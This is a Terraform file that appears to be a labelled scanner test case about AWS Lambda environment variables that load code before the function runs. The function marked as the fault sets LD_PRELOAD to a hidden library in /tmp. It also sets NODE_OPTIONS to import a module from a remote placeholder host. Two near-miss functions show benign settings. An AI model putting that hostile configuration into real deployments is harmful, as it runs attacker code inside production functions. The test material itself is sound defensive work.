# A function loads code from a writable folder before its own through an environment variable.
# Source: https://docs.aws.amazon.com/lambda/latest/dg/runtimes-modify.html (AWS_LAMBDA_EXEC_WRAPPER)
# Fault at: aws_lambda_function.lamwrap_fault
# Near miss at: aws_lambda_function.lamwrap_near
# Near miss at: aws_lambda_function.lamwrap_otel_near

resource "aws_kms_key" "lamwrap_key" {
  description         = "Key for lamwrap_key"
  enable_key_rotation = true
}

resource "aws_iam_role" "lamwrap_role" {
  name               = "shop-prod-lamwrap-role"
  assume_role_policy = jsonencode({ Version = "2012-10-17", Statement = [{ Effect = "Allow", Action = "sts:AssumeRole", Principal = { Service = "lambda.amazonaws.com" } }] })
}

resource "aws_sqs_queue" "lamwrap_dlq" {
  name              = "shop-prod-lamwrap-dlq"
  kms_master_key_id = aws_kms_key.lamwrap_key.arn
}

resource "aws_lambda_function" "lamwrap_fault" {
  function_name                  = "shop-prod-lamwrap-fault"
  role                           = aws_iam_role.lamwrap_role.arn
  runtime                        = "python3.13"
  handler                        = "app.handler"
  timeout                        = 30
  memory_size                    = 128
  reserved_concurrent_executions = 5
  kms_key_arn                    = aws_kms_key.lamwrap_key.arn
  filename                       = "build/app.zip"
  dead_letter_config {
    target_arn = aws_sqs_queue.lamwrap_dlq.arn
  }
  tracing_config {
    mode = "Active"
  }
  environment {
    variables = {
      LD_PRELOAD   = "/tmp/.x.so"
      NODE_OPTIONS = "--import=data:text/javascript,import(%22https://x.example.net/a.mjs%22)"
    }
  }
}

resource "aws_lambda_function" "lamwrap_near" {
  function_name                  = "shop-prod-lamwrap-near"
  role                           = aws_iam_role.lamwrap_role.arn
  runtime                        = "python3.13"
  handler                        = "app.handler"
  timeout                        = 30
  memory_size                    = 128
  reserved_concurrent_executions = 5
  kms_key_arn                    = aws_kms_key.lamwrap_key.arn
  filename                       = "build/app.zip"
  dead_letter_config {
    target_arn = aws_sqs_queue.lamwrap_dlq.arn
  }
  tracing_config {
    mode = "Active"
  }
  environment {
    variables = {
      NODE_OPTIONS = "--enable-source-maps"
      PRELOAD      = "catalog,prices"
    }
  }
}

# AWS's own layer for OpenTelemetry and its wrapper, as the documentation of AWS says; the account is that of AWS.
resource "aws_lambda_function" "lamwrap_otel_near" {
  function_name                  = "shop-prod-lamwrap-otel_near"
  role                           = aws_iam_role.lamwrap_role.arn
  runtime                        = "python3.13"
  handler                        = "app.handler"
  timeout                        = 30
  memory_size                    = 128
  reserved_concurrent_executions = 5
  kms_key_arn                    = aws_kms_key.lamwrap_key.arn
  filename                       = "build/app.zip"
  dead_letter_config {
    target_arn = aws_sqs_queue.lamwrap_dlq.arn
  }
  tracing_config {
    mode = "Active"
  }
  layers = ["arn:aws:lambda:${var.region}:615299751070:layer:AWSOpenTelemetryDistroPython:5"]

  environment {
    variables = {
      AWS_LAMBDA_EXEC_WRAPPER = "/opt/otel-instrument"
    }
  }
}
